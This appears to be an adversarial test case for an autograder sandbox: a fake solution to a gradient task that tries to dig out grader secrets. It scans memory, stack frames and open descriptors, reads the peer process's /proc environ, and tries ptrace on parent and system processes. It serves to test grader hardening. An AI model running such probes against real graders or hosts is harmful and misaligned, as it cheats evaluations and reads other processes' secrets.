# Attack: looks for secrets in its own process: modules, objects, frames, arguments, open files; and at what it is asked with.
# Expect: gradient_flow.grad_ab 0 points, error
# Shows: nothing
import ctypes
import fcntl
import gc
import os
import re
import socket
import sys

SECRET = re.compile(r"(?:AUTOGRADER_SEED|canary|course-seed|def check_\w+__|check_\w+\.py|BEGIN SOLUTION|excess = a)[^\n\0]{0,200}")

PTRACE_ATTACH, PTRACE_DETACH = 16, 17


def strings(value, depth=0):
    """The texts in a value."""
    if isinstance(value, bytes | bytearray):
        value = bytes(value[:100_000]).decode(errors="replace")
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict) and depth < 2:
        for pair in list(value.items())[:2000]:
            yield from strings(pair, depth + 1)
    elif isinstance(value, list | tuple | set) and depth < 2:
        for item in list(value)[:2000]:
            yield from strings(item, depth + 1)


def search():
    found = [name for name in sys.modules if re.search(r"checks|reference|expect|grade$|pytest|diagnose|client", name) and "autograder" in name]
    frame = sys._getframe()
    while frame is not None:
        if frame.f_code.co_filename != __spec__.origin:
            found += [match[0] for text in strings(frame.f_locals) for match in SECRET.finditer(text)]
        frame = frame.f_back
    for value in [sys.argv, sys.orig_argv, sys.path, *gc.get_objects()[:20_000]]:
        if isinstance(value, dict | list) and value is not globals():
            found += [match[0] for text in strings(value, 1) for match in SECRET.finditer(text) if "match" not in text]
    for descriptor in range(4, 128):
        try:
            fcntl.fcntl(descriptor, fcntl.F_GETFL)
            found.append(f"descriptor {descriptor} is open: {os.fstat(descriptor)}")
        except OSError:
            pass
    link = socket.socket(fileno=os.dup(3))
    for option in (socket.SO_PEERCRED, getattr(socket, "SO_PEERGROUPS", 59)):
        try:
            peer = link.getsockopt(socket.SOL_SOCKET, option, 12)
            environment = open(f"/proc/{int.from_bytes(peer[:4], sys.byteorder)}/environ").read()
            found += ["the grader's environment can be read", *SECRET.findall(environment)]
        except OSError:
            pass
    try:
        libc = ctypes.CDLL(None, use_errno=True)
        for pid in (os.getppid(), 1, 2):
            if libc.ptrace(PTRACE_ATTACH, pid, 0, 0) == 0:
                found.append(f"process {pid} can be traced")
                libc.waitpid(pid, None, 0)
                libc.ptrace(PTRACE_DETACH, pid, 0, 0)
    except AttributeError:
        pass
    return sorted(set(found), key=lambda line: SECRET.search(line) is None)


def grad_ab(z):
    found = search()
    print(*found, sep="\n", flush=True)
    raise LookupError("\n".join(found))
